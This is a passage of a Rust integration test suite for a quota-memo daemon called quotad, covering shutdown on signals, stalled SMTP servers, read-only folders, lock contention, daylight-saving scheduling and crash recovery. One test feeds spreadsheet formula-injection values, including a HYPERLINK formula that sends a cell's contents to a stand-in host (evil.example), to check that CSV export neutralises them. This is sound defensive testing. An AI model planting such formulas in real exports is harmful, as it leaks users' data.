//! Issue 17: durable, stoppable, safe to open. Each test causes its fault for real: a
//! process stopped by PID (SIGTERM, SIGINT) or aborted at a crash point, a real SMTP
//! server that stalls (tests/smtp_sink.py) or a TCP server that never greets, a state
//! folder the reader cannot write, a lock held by another process, a second 02:30.

use std::io::Write as _;
use std::path::Path;
use std::process::Child;
use std::time::{Duration, Instant};

use crate::harness::{Env, ROSTER, config};
use crate::smtp_server::{Certs, PASSWORD_ENV, SmtpSink, free_port, password, smtp_config};
use quotad::store::OutboxState;

/// Polls `cond` every 50 ms for up to `limit`.
fn wait_for(limit: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let start = Instant::now();
    while start.elapsed() < limit {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    cond()
}

fn read(env: &Env, rel: &str) -> String {
    std::fs::read_to_string(env.path(rel)).unwrap_or_default()
}

/// Sends SIG`name` to `child` by PID; returns its exit code (-1: killed by a signal)
/// and how long it took to exit. Kills it after `limit`.
fn stop(child: &mut Child, name: &str, limit: Duration) -> (i32, Duration) {
    let start = Instant::now();
    let sent = std::process::Command::new("sh").args(["-c", &format!("kill -{name} {}", child.id())]).status().unwrap();
    assert!(sent.success());
    loop {
        if let Some(s) = child.try_wait().unwrap() {
            return (s.code().unwrap_or(-1), start.elapsed());
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("did not exit within {limit:?} of SIG{name}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// CPU time (user + system) of process `pid` so far, from /proc/PID/stat.
fn cpu_time(pid: u32) -> Duration {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // The command name (field 2) may hold spaces: count from the closing parenthesis.
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = rest.split(' ').collect();
    let (utime, stime): (u64, u64) = (f[11].parse().unwrap(), f[12].parse().unwrap());
    let out = std::process::Command::new("getconf").arg("CLK_TCK").output().unwrap();
    let tck: u64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    Duration::from_secs_f64((utime + stime) as f64 / tck as f64)
}

/// The shipped config on a copy of the sample inbox (so files can be dropped in), with
/// its output folders in the test's folder; `replace` edits it.
fn sample_copy(replace: &[(&str, &str)]) -> Env {
    let env = Env::sample();
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/sample-inbox");
    for e in std::fs::read_dir(&root).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), env.path("inbox").join(e.file_name())).unwrap();
    }
    let mut cfg = std::fs::read_to_string(env.path("quotad.toml"))
        .unwrap()
        .replace(&format!("inbox = {:?}", root.display().to_string()), "inbox = \"inbox\"");
    for (a, b) in replace {
        assert!(cfg.contains(a), "{a}");
        cfg = cfg.replace(a, b);
    }
    std::fs::write(env.path("quotad.toml"), cfg).unwrap();
    env
}

// ---------------------------------------------------------------------------------
// 9. An idle daemon is idle.

#[test]
fn an_idle_serve_uses_under_1_s_of_cpu_in_30_s_and_still_imports_a_file_dropped_in_within_settle_plus_1_s() {
    // The shipped defaults: settle 5 s, rescan 60 s, heartbeat 15 s. A Wednesday
    // afternoon: no job is due for days.
    let env = sample_copy(&[]);
    let mut d = env.spawn("serve", &["--now", "2026-11-04T18:00:00Z", "serve"], &[]);
    assert!(
        wait_for(Duration::from_secs(60), || read(&env, "serve.out")
            .contains("inbox: crm-export-2026-10.xlsx imported")),
        "{}{}",
        read(&env, "serve.out"),
        read(&env, "serve.err")
    );
    std::thread::sleep(Duration::from_secs(2));
    let before = cpu_time(d.id());
    std::thread::sleep(Duration::from_secs(30));
    let used = cpu_time(d.id()) - before;
    assert!(used < Duration::from_secs(1), "{used:?} of CPU in 30 s of an unchanging inbox");

    // A file written into the inbox (create, write, close) is imported once it has
    // settled: within settle_seconds (5) plus a second.
    let csv =
        "Deal ID,Rep ID,Sales Rep,Stage,Close Date,Sale Price\nN-1,R00001,José Núñez,Closed Won,2026-11-03,412500\n";
    std::fs::write(env.path("inbox/crm-export-2026-11.csv"), csv).unwrap();
    let dropped = Instant::now();
    assert!(
        wait_for(Duration::from_secs(20), || read(&env, "serve.out")
            .contains("inbox: crm-export-2026-11.csv imported")),
        "{}",
        read(&env, "serve.out")
    );
    let took = dropped.elapsed();
    assert!(took <= Duration::from_secs(6), "imported {took:?} after it was written");
    // One moved in (rename from outside the inbox): the same.
    std::fs::write(env.path("incoming.csv"), csv.replace("N-1,", "N-2,")).unwrap();
    std::fs::rename(env.path("incoming.csv"), env.path("inbox/crm-export-2026-11b.csv")).unwrap();
    let moved = Instant::now();
    assert!(
        wait_for(Duration::from_secs(20), || read(&env, "serve.out")
            .contains("inbox: crm-export-2026-11b.csv imported")),
        "{}",
        read(&env, "serve.out")
    );
    assert!(moved.elapsed() <= Duration::from_secs(6), "imported {:?} after it was moved in", moved.elapsed());
    let (code, _) = stop(&mut d, "TERM", Duration::from_secs(20));
    assert_eq!(code, 0);
    // Each file once.
    assert_eq!(read(&env, "serve.out").matches("crm-export-2026-11.csv").count(), 1);
}

// ---------------------------------------------------------------------------------
// Servers that stall, for real.

/// A TCP server on 127.0.0.1 that accepts connections and never says a word (no SMTP
/// greeting): a mail server that is up but hung. Counts the connections it accepted.
struct SilentServer {
    port: u16,
    accepted: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl SilentServer {
    fn start() -> SilentServer {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let count = accepted.clone();
        std::thread::spawn(move || {
            let mut held = Vec::new();
            for s in listener.incoming().flatten() {
                count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                held.push(s); // kept open, silent
            }
        });
        SilentServer { port, accepted }
    }

    fn accepted(&self) -> usize {
        self.accepted.load(std::sync::atomic::Ordering::SeqCst)
    }

    /// `[mail]` lines sending to it: a plain local relay without AUTH, the default
    /// timeouts unless `smtp_extra` sets them.
    fn config(&self, mail_extra: &str, smtp_extra: &str) -> String {
        format!(
            "transport = \"smtp\"\n{mail_extra}\n\n[mail.smtp]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\n{smtp_extra}\n",
            self.port
        )
    }
}

/// 200 reps, one quota and one deal each: 200 rep memos and a team memo (April 2026).
fn big_inbox(env: &Env) -> Vec<String> {
    let mut roster = String::from("Rep ID,Name,Email,Team,Manager,Manager Email,Hire Date,Status\n");
    let mut quotas = String::from("Rep Email,Month,Revenue Quota,Units Quota\n");
    let mut deals = String::from("Deal ID,Sales Rep,Rep Email,Team,Stage,Close Date,Sale Price,Units\n");
    let mut emails = Vec::new();
    for i in 1..=200 {
        let email = format!("rep{i:03}@example.com");
        roster.push_str(&format!("R{i:03},Rep {i:03},{email},North,Mia Boss,mia@example.com,2020-01-06,Active\n"));
        quotas.push_str(&format!("{email},2026-03,100000,1\n{email},2026-04,100000,1\n"));
        deals.push_str(&format!("D{i:03},Rep {i:03},{email},North,Closed Won,2026-03-10,{},1\n", 50_000 + i * 500));
        emails.push(email);
    }
    env.put("roster.csv", roster);
    env.put("quotas.csv", quotas);
    env.put("deals.csv", deals);
    emails
}

/// The sample delivering through `sink`, a copy of its inbox in the test folder.
fn sample_smtp(sink: &SmtpSink, smtp_extra: &str) -> Env {
    let env = sample_copy(&[]);
    let shipped = std::fs::read_to_string(env.path("quotad.toml")).unwrap();
    let transport = shipped.lines().find(|l| l.starts_with("transport = \"file\"")).unwrap();
    let smtp = smtp_config(sink.port, sink.cert(), "starttls", "", smtp_extra)
        .replace("connect_timeout_seconds = 10\ncommand_timeout_seconds = 10\n", "");
    std::fs::write(env.path("quotad.toml"), format!("{}{smtp}", shipped.replace(transport, ""))).unwrap();
    env
}

fn outbox_states(env: &Env, state: &str) -> Vec<(String, quotad::store::OutboxState, u32)> {
    let store = quotad::store::Store::open(&env.path(state)).unwrap();
    store
        .outbox_list(&quotad::store::OutboxState::ALL, 10_000)
        .unwrap()
        .into_iter()
        .map(|r| (r.entry.recipient, r.state, r.attempts))
        .collect()
}

fn count_state(rows: &[(String, quotad::store::OutboxState, u32)], s: quotad::store::OutboxState) -> usize {
    rows.iter().filter(|r| r.1 == s).count()
}

// ---------------------------------------------------------------------------------
// 2 and 3. `run` stops as `serve` does, within the service unit's stop timeout.

#[test]
fn sigterm_to_run_while_data_awaits_its_250_finishes_that_message_records_it_and_the_next_run_sends_nothing_twice() {
    let pw = password();
    let held = "carlos.williams@example-homes.com";
    // The sink stores the message to Carlos, then holds its 250 for 8 s; the default
    // command timeout (60 s) waits for it.
    let sink = SmtpSink::start_with(
        free_port(),
        std::rc::Rc::new(Certs::new()),
        "starttls",
        &pw,
        &["--hold-reply", held, "--hold-seconds", "8"],
    );
    let env = sample_smtp(&sink, "");
    let vars = [(PASSWORD_ENV, pw.as_str())];
    assert_eq!(env.quotad(&["import"]).code, 0);
    let mut child = env.spawn("run", &["run", "quota-memo"], &vars);
    assert!(wait_for(Duration::from_secs(60), || sink.holding("reply")), "{}", read(&env, "run.err"));
    let at_term = sink.count();
    let (code, took) = stop(&mut child, "TERM", Duration::from_secs(30));
    assert_eq!(code, 143, "{}{}", read(&env, "run.out"), read(&env, "run.err"));
    assert!(took >= Duration::from_secs(5) && took < Duration::from_secs(12), "stopped {took:?} after SIGTERM");
    assert_eq!(sink.count(), at_term, "no message started after SIGTERM");
    let rows = outbox_states(&env, "var/quotad.sqlite");
    let carlos = rows.iter().find(|r| r.0 == held).unwrap();
    assert_eq!((carlos.1, carlos.2), (OutboxState::Sent, 1), "the message in flight is recorded as sent");
    assert_eq!(count_state(&rows, OutboxState::Sending), 0);
    assert_eq!(count_state(&rows, OutboxState::Sent), at_term);
    assert!(
        read(&env, "run.err").contains("SIGTERM: finishing the message or file in flight"),
        "{}",
        read(&env, "run.err")
    );
    assert!(
        read(&env, "run.out").contains(&format!("stopped by SIGTERM: {} message(s) left in the outbox", 22 - at_term)),
        "{}",
        read(&env, "run.out")
    );

    // The next run sends the rest, each once; Carlos is not sent twice.
    let again = env.quotad_env(&["run", "quota-memo"], &vars);
    assert_eq!(again.code, 0, "{again:?}");
    let mut to: Vec<String> = sink.received().into_iter().map(|r| r.email.to).collect();
    assert_eq!(to.len(), 22);
    to.sort();
    to.dedup();
    assert_eq!(to.len(), 22, "nobody got a memo twice");
}

#[test]
fn sigterm_while_rcpt_or_the_greeting_is_awaited_abandons_it_at_once_and_the_message_goes_once_later() {
    let pw = password();
    let held = "carlos.williams@example-homes.com";
    let sink = SmtpSink::start_with(
        free_port(),
        std::rc::Rc::new(Certs::new()),
        "starttls",
        &pw,
        &["--hold-rcpt", held, "--hold-seconds", "30"],
    );
    let env = sample_smtp(&sink, "");
    let vars = [(PASSWORD_ENV, pw.as_str())];
    assert_eq!(env.quotad(&["import"]).code, 0);
    let mut child = env.spawn("run", &["run", "quota-memo"], &vars);
    assert!(wait_for(Duration::from_secs(60), || sink.holding("rcpt")), "{}", read(&env, "run.err"));
    let (code, took) = stop(&mut child, "INT", Duration::from_secs(30));
    assert_eq!(code, 130, "{}", read(&env, "run.err"));
    assert!(took < Duration::from_secs(2), "stopped {took:?} after SIGINT: the RCPT reply was not waited for");
    let rows = outbox_states(&env, "var/quotad.sqlite");
    let carlos = rows.iter().find(|r| r.0 == held).unwrap();
    assert_eq!((carlos.1, carlos.2), (OutboxState::Pending, 0), "nothing was handed over: not an attempt");
    assert_eq!(count_state(&rows, OutboxState::Sending), 0);
    assert!(!sink.received().iter().any(|r| r.email.to == held));

    // A server that never greets: with the default connect timeout (30 s), SIGTERM
    // during the wait stops at once.
    let silent = SilentServer::start();
    let cfg = std::fs::read_to_string(env.path("quotad.toml")).unwrap();
    let cfg = cfg.replace(&format!("port = {}", sink.port), &format!("port = {}", silent.port));
    std::fs::write(env.path("quotad.toml"), cfg).unwrap();
    let mut child = env.spawn("retry", &["outbox", "retry"], &vars);
    assert!(wait_for(Duration::from_secs(20), || silent.accepted() >= 1));
    std::thread::sleep(Duration::from_millis(300));
    let (code, took) = stop(&mut child, "TERM", Duration::from_secs(40));
    assert_eq!(code, 143, "{}", read(&env, "retry.err"));
    assert!(took < Duration::from_secs(2), "stopped {took:?} after SIGTERM while waiting for a greeting");
    let rows = outbox_states(&env, "var/quotad.sqlite");
    assert_eq!(count_state(&rows, OutboxState::Failed) + count_state(&rows, OutboxState::Sending), 0, "{rows:?}");

    // Back to the real server: the rest go, Carlos once.
    let cfg = std::fs::read_to_string(env.path("quotad.toml")).unwrap();
    std::fs::write(
        env.path("quotad.toml"),
        cfg.replace(&format!("port = {}", silent.port), &format!("port = {}", sink.port)),
    )
    .unwrap();
    let r = env.quotad_env(&["outbox", "retry"], &vars);
    assert_eq!(r.code, 0, "{r:?}");
    let to: Vec<String> = sink.received().into_iter().map(|r| r.email.to).collect();
    assert_eq!(to.len(), 22);
    assert_eq!(to.iter().filter(|t| *t == held).count(), 1);
}

#[test]
fn the_service_units_stop_timeout_exceeds_the_longest_stop_quotad_can_take_with_the_default_timeouts() {
    let unit = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("config/quotad.service")).unwrap();
    let stop: u64 = unit
        .lines()
        .find_map(|l| l.strip_prefix("TimeoutStopSec="))
        .expect("TimeoutStopSec in the unit")
        .trim()
        .parse()
        .unwrap();
    // The defaults of [mail.smtp]: on SIGTERM only a message whose payload is being
    // written is finished; writing it and waiting for its 250 are each bounded by
    // command_timeout_seconds (default 60).
    let cfg = quotad::config::Config::parse(
        &config("transport = \"smtp\"\n[mail.smtp]\nhost = \"127.0.0.1\"\ntls = \"none\"\n"),
        "quotad.toml",
        Path::new("."),
    )
    .unwrap();
    let quotad::deliver::TransportKind::Smtp(smtp) = &cfg.mail.transport else { panic!("smtp") };
    assert_eq!(smtp.command_timeout, Duration::from_secs(60));
    assert_eq!(smtp.longest_stop(), Duration::from_secs(120));
    assert!(stop > 120, "TimeoutStopSec={stop} must exceed 120 s, or systemd's SIGKILL can cut a message short");
}

// ---------------------------------------------------------------------------------
// 4. A dead server is noticed once per connection.

#[test]
fn a_server_that_never_greets_costs_one_timeout_per_attempt_for_all_201_messages_not_one_per_batch() {
    let silent = SilentServer::start();
    let env =
        Env::new(&config(&silent.config(
            "max_attempts = 2\nretry_initial_seconds = 1\nretry_max_seconds = 1",
            "connect_timeout_seconds = 2",
        )));
    big_inbox(&env);
    assert_eq!(env.quotad(&["import"]).code, 0);
    let start = Instant::now();
    let run = env.quotad(&["run", "quota-memo"]);
    let took = start.elapsed();
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(silent.accepted(), 2, "one connection per attempt: {run:?}");
    // Two 2 s timeouts and a 1 s backoff, plus rendering 201 memos (13 s seen at load
    // average 15): one timeout per batch of 32 would cost 7 batches x 2 attempts x 2 s = 28 s.
    assert!(took < Duration::from_secs(20), "{took:?}: two 2 s timeouts and a 1 s backoff");
    let rows = outbox_states(&env, "quotad.sqlite");
    assert_eq!(rows.len(), 201);
    assert!(rows.iter().all(|r| r.1 == OutboxState::Dead && r.2 == 2), "{rows:?}");
}

#[test]
fn while_delivery_backs_off_the_daemon_keeps_its_calendar_and_imports_a_new_file() {
    let silent = SilentServer::start();
    let env = Env::new(&config(&format!(
        "{}\n[schedule]\nheartbeat_seconds = 1\nrescan_seconds = 60\nsettle_seconds = 1\n",
        silent.config("retry_initial_seconds = 600", "connect_timeout_seconds = 1")
    )));
    env.put("roster.csv", ROSTER);
    env.put("quotas.csv", "Rep Email,Month,Revenue Quota\nann@example.com,2026-04,400000\n");
    env.put(
        "deals.csv",
        "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD1,ann@example.com,Closed Won,2026-03-02,300000\n",
    );
    // 1 April 07:00 CDT = 12:00 UTC: the memo runs, its delivery fails, 10 minutes' backoff.
    let mut d = env.spawn("serve", &["--now", "2026-04-01T11:59:50Z", "serve"], &[]);
    assert!(
        wait_for(Duration::from_secs(40), || silent.accepted() >= 1
            && read(&env, "serve.out").contains("quota-memo 2026-04-01")),
        "{}{}",
        read(&env, "serve.out"),
        read(&env, "serve.err")
    );
    std::fs::write(
        env.path("inbox/deals-0401.csv"),
        "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD2,bob@example.com,Closed Won,2026-04-01,280000\n",
    )
    .unwrap();
    let dropped = Instant::now();
    assert!(
        wait_for(Duration::from_secs(20), || read(&env, "serve.out").contains("inbox: deals-0401.csv imported")),
        "{}",
        read(&env, "serve.out")
    );
    assert!(dropped.elapsed() < Duration::from_secs(3), "{:?}", dropped.elapsed());
    let (code, took) = stop(&mut d, "TERM", Duration::from_secs(20));
    assert_eq!(code, 0);
    assert!(took < Duration::from_secs(3), "{took:?}");
    assert_eq!(silent.accepted(), 1, "one connection: the retry waits for its backoff");
}

#[test]
fn sigterm_to_import_finishes_the_file_in_hand_and_leaves_the_rest_in_the_inbox_for_the_next_import() {
    let env = Env::new(&config(""));
    env.put("roster.csv", ROSTER);
    let reps = ["ann@example.com", "bob@example.com", "cy@example.com"];
    for f in 1..=3 {
        let mut csv = String::from("Deal ID,Rep Email,Stage,Close Date,Sale Price\n");
        for i in 0..60_000 {
            csv.push_str(&format!("F{f}-{i},{},Closed Won,2026-03-{:02},{}.00\n", reps[i % 3], 1 + i % 28, 1000 + i));
        }
        env.put(&format!("deals-{f}.csv"), csv);
    }
    let mut child = env.spawn("import", &["import"], &[]);
    std::thread::sleep(Duration::from_millis(400));
    let (code, _) = stop(&mut child, "TERM", Duration::from_secs(60));
    let out = read(&env, "import.out");
    assert_eq!(code, 143, "{out}{}", read(&env, "import.err"));
    let left = out.matches("left in the inbox for the next import").count();
    assert!(left >= 1, "{out}");
    // Each file is imported whole or not at all, and the next import takes the rest.
    let stored = env.store().counts().unwrap().0;
    assert_eq!(stored % 60_000, 0, "{stored} rows: a file cut in half? {out}");
    assert_eq!(stored as usize, (3 - left.min(3)) * 60_000, "{out}");
    let r = env.quotad(&["import"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(env.store().counts().unwrap().0, 180_000);
    assert_eq!(env.files_in("archive"), ["deals-1.csv", "deals-2.csv", "deals-3.csv", "roster.csv"]);
}

// ---------------------------------------------------------------------------------
// 5. Formulas in someone else's spreadsheet.

#[test]
fn standings_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them_exact() {
    let env = Env::new(&config(""));
    env.put(
        "roster.csv",
        "Rep ID,Name,Email,Team,Manager,Manager Email,Hire Date,Status
R1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",ann@example.com,North,Mia Boss,mia@example.com,2020-01-06,Active
R2,@SUM(A1:A9),bob@example.com,+North,Mia Boss,mia@example.com,2021-02-01,Active
R3,-Cy Cole,cy@example.com,South,Max Chief,max@example.com,2019-05-20,Active
",
    );
    env.put("quotas.csv", "Rep Email,Month,Revenue Quota\nann@example.com,2026-03,400000\nbob@example.com,2026-03,250000\ncy@example.com,2026-03,300000\n");
    env.put(
        "deals.csv",
        "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD1,ann@example.com,Closed Won,2026-03-02,300000\nD2,bob@example.com,Closed Won,2026-03-05,250000\nD9,cy@example.com,Cancelled,2026-03-09,125000\n",
    );
    assert_eq!(env.quotad(&["import"]).code, 0);
    let csv = env.quotad(&["standings", "--period", "2026-03", "--format", "csv"]);
    assert_eq!(csv.code, 0, "{csv:?}");
    let mut rdr = csv::ReaderBuilder::new().from_reader(csv.stdout.as_bytes());
    let header: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let names: std::collections::BTreeSet<&str> = rows.iter().map(|r| &r[col("name")]).collect();
    assert_eq!(
        names.into_iter().collect::<Vec<_>>(),
        ["'-Cy Cole", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'@SUM(A1:A9)"]
    );
    let bob = rows.iter().find(|r| &r[col("rep_id")] == "R2").unwrap();
    assert_eq!(&bob[col("team")], "'+North");
    // Numbers stay numbers: a negative revenue is not a formula.
    let cy = rows.iter().find(|r| &r[col("rep_id")] == "R3").unwrap();
    assert_eq!(&cy[col("revenue")], "-125000");
    // No cell of the CSV starts with a character a spreadsheet would evaluate, except
    // numbers written by quotad.
    for r in &rows {
        for (i, cell) in r.iter().enumerate() {
            if ["revenue", "units", "revenue_quota", "attainment", "attainment_pct", "pace", "movement"]
                .contains(&header[i].as_str())
            {
                continue;
            }
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{}: {cell:?}", header[i]);
        }
    }
    let json = env.quotad(&["standings", "--period", "2026-03", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let ann = v.as_array().unwrap().iter().find(|r| r["rep_id"] == "R1").unwrap();
    assert_eq!(ann["name"], "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "JSON is exact");
    let bob = v.as_array().unwrap().iter().find(|r| r["rep_id"] == "R2").unwrap();
    assert_eq!(bob["team"], "+North");
}

// ---------------------------------------------------------------------------------
// 6. Reading needs no write access.

/// Runs the real binary as the unprivileged user `nobody` (setpriv) when the tests run
/// as root, so that a folder's missing write permission applies; as another user, runs
/// it as that user.
fn quotad_as_reader(env: &Env, args: &[&str]) -> crate::harness::Run {
    let root = effective_uid() == 0;
    let bin = env!("CARGO_BIN_EXE_quotad");
    let mut cmd = if root {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid", "nobody", "--regid", "nogroup", "--clear-groups", "--"]).arg(bin);
        c
    } else {
        std::process::Command::new(bin)
    };
    let out = cmd
        .args(["--config", "quotad.toml"])
        .args(args)
        .current_dir(env.dir.path())
        .env_remove("QUOTAD_CONFIG")
        .env_remove("RUST_LOG")
        .output()
        .unwrap();
    crate::harness::Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// The effective uid, from /proc (no libc).
fn effective_uid() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("Uid:")).unwrap();
    line.split_whitespace().nth(2).unwrap().parse().unwrap()
}

#[test]
fn with_a_read_only_state_folder_the_read_commands_work_and_a_writing_one_says_the_folder_is_read_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let env = Env::new(&config(""));
    env.put("roster.csv", ROSTER);
    env.put("quotas.csv", "Rep Email,Month,Revenue Quota\nann@example.com,2026-03,400000\n");
    env.put(
        "deals.csv",
        "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD1,ann@example.com,Closed Won,2026-03-02,300000\n",
    );
    assert_eq!(env.quotad(&["run", "all"]).code, 0);
    // The reader may read everything and write nothing: the folder and its files are
    // r-x / r-- for everyone (as root the binary runs as `nobody`).
    let set = |p: &Path, mode: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    for e in walk(env.dir.path()) {
        set(&e, if e.is_dir() { 0o555 } else { 0o444 });
    }
    set(env.dir.path(), 0o555);
    for args in [
        &["status"][..],
        &["standings", "--period", "2026-03"],
        &["explain", "--rep", "ann@example.com", "--period", "2026-03"],
        &["imports"],
        &["outbox", "list"],
    ] {
        let r = quotad_as_reader(&env, args);
        assert_eq!(r.code, 0, "{args:?}: {r:?}");
        assert!(!r.stderr.contains("unable to open database file"), "{args:?}: {r:?}");
    }
    assert!(quotad_as_reader(&env, &["imports"]).stdout.contains("deals.csv"));
    let r = quotad_as_reader(&env, &["import"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("is read-only"), "{r:?}");
    assert!(r.stderr.contains(&env.dir.path().display().to_string()), "names the folder: {r:?}");
    set(env.dir.path(), 0o755);
    for e in walk(env.dir.path()) {
        set(&e, if e.is_dir() { 0o755 } else { 0o644 });
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        }
        out.push(p);
    }
    out
}

// ---------------------------------------------------------------------------------
// 7. A second instance refuses.

#[test]
fn a_second_import_or_run_refuses_naming_the_pid_and_waits_only_with_wait() {
    let env = Env::new(&config(""));
    env.put("roster.csv", ROSTER);
    // Another quotad `run` holds the state lock: here, this test process holds it, as
    // quotad does (an exclusive lock on `<state>.lock`, "pid N run" inside).
    let lock_path = env.path("quotad.sqlite.lock");
    let mut lock = std::fs::OpenOptions::new().create(true).truncate(false).write(true).open(&lock_path).unwrap();
    lock.lock().unwrap();
    let me = std::process::id();
    writeln!(lock, "pid {me} run").unwrap();
    for args in [&["import"][..], &["run", "all"], &["outbox", "retry"]] {
        let start = Instant::now();
        let r = env.quotad(args);
        assert_eq!(r.code, 1, "{args:?}: {r:?}");
        assert!(start.elapsed() < Duration::from_secs(5), "{args:?} waited");
        assert!(
            r.stderr.contains(&format!("another quotad (pid {me}, `quotad run`) is working on")),
            "{args:?}: {r:?}"
        );
        assert!(r.stderr.contains("--wait"), "{args:?}: {r:?}");
    }
    // --wait waits for it, says so, and then works.
    let mut child = env.spawn("waiting", &["import", "--wait"], &[]);
    assert!(wait_for(Duration::from_secs(10), || read(&env, "waiting.err").contains("waiting for it to finish")));
    std::thread::sleep(Duration::from_millis(500));
    assert!(child.try_wait().unwrap().is_none(), "still waiting");
    drop(lock);
    let code = {
        let start = Instant::now();
        loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s.code().unwrap_or(-1);
            }
            assert!(start.elapsed() < Duration::from_secs(20));
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    assert_eq!(code, 0, "{}", read(&env, "waiting.err"));
    assert!(read(&env, "waiting.out").contains("roster.csv [roster]: 3 new"), "{}", read(&env, "waiting.out"));
}

// ---------------------------------------------------------------------------------
// 8. `run JOB --at` takes only a real occurrence.

#[test]
fn run_at_the_second_0230_of_the_fall_back_night_is_refused_naming_the_first() {
    let env = Env::new(&config(
        "[schedule.quota_memo]\ncron = \"0 30 2 * * *\"\n[schedule.weekly_ranking]\nenabled = false\n[schedule.one_on_one]\nenabled = false\n",
    ));
    let cfg = std::fs::read_to_string(env.path("quotad.toml")).unwrap().replace("America/Chicago", "Europe/Berlin");
    std::fs::write(env.path("quotad.toml"), cfg).unwrap();
    // 25 October 2026: 02:30 CEST = 00:30 UTC runs; 02:30 CET = 01:30 UTC is the same
    // local time again.
    let now = ["--now", "2026-10-25T06:00:00Z"];
    let r = env.quotad(&[&now[..], &["run", "quota-memo", "--at", "2026-10-25T01:30:00Z"]].concat());
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains(
            "2026-10-25 02:30 CET (01:30 UTC) is not an occurrence of quota-memo (\"0 30 2 * * *\" in Europe/Berlin): the nearest is 2026-10-25 02:30 CEST (00:30 UTC)"
        ),
        "{r:?}"
    );
    // Any other instant: the nearest occurrence, before or after.
    let r = env.quotad(&[&now[..], &["run", "quota-memo", "--at", "2026-10-24T20:00:00Z"]].concat());
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("the nearest is 2026-10-25 02:30 CEST (00:30 UTC)"), "{r:?}");
    let r = env.quotad(&[&now[..], &["run", "quota-memo", "--at", "2026-10-24T10:00:00Z"]].concat());
    assert!(r.stderr.contains("the nearest is 2026-10-24 02:30 CEST (00:30 UTC)"), "{r:?}");
    let store = quotad::store::Store::open(&env.path("quotad.sqlite")).unwrap();
    assert!(store.runs_of("quota-memo").unwrap().is_empty(), "nothing recorded");
    // The occurrence itself runs (no data: skipped), once.
    let r = env.quotad(&[&now[..], &["run", "quota-memo", "--at", "2026-10-25T00:30:00Z"]].concat());
    assert_eq!(r.code, 0, "{r:?}");
    let store = quotad::store::Store::open(&env.path("quotad.sqlite")).unwrap();
    assert_eq!(store.runs_of("quota-memo").unwrap().len(), 1);
}

// ---------------------------------------------------------------------------------
// 1. Power loss: the steps of an import with after_import = "move", cut between them.

/// The lowercase hex SHA-256 of a file's bytes, as the imports ledger records it.
fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn an_import_aborted_at_each_crash_point_leaves_every_export_imported_or_in_the_inbox() {
    let files = [
        ("roster.csv", "roster", ROSTER.to_string()),
        (
            "deals-1.csv",
            "deals",
            "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD1,ann@example.com,Closed Won,2026-03-02,300000\n".into(),
        ),
        (
            "deals-2.csv",
            "deals",
            "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD2,bob@example.com,Closed Won,2026-03-05,250000\n".into(),
        ),
    ];
    for point in ["after-import-commit", "after-archive-copy", "after-inbox-remove"] {
        let env = Env::new(&config(""));
        for (name, _, text) in &files {
            env.put(name, text);
        }
        let r = env.quotad_env(&["import"], &[("QUOTAD_CRASH_AT", point)]);
        assert_eq!(r.code, -1, "{point}: killed by SIGABRT at the crash point: {r:?}");
        assert!(r.stderr.contains(&format!("QUOTAD_CRASH_AT={point}: aborting here")), "{r:?}");
        // Every export is imported (its bytes in the imports ledger) or still in the inbox.
        let known = env.store().import_fingerprints().unwrap();
        let mut imported = 0;
        for (name, source, text) in &files {
            let in_inbox = env.path("inbox").join(name).exists();
            let stored = known.contains(&(source.to_string(), sha256(text.as_bytes())));
            assert!(in_inbox || stored, "{point}: {name} vanished");
            imported += usize::from(stored);
        }
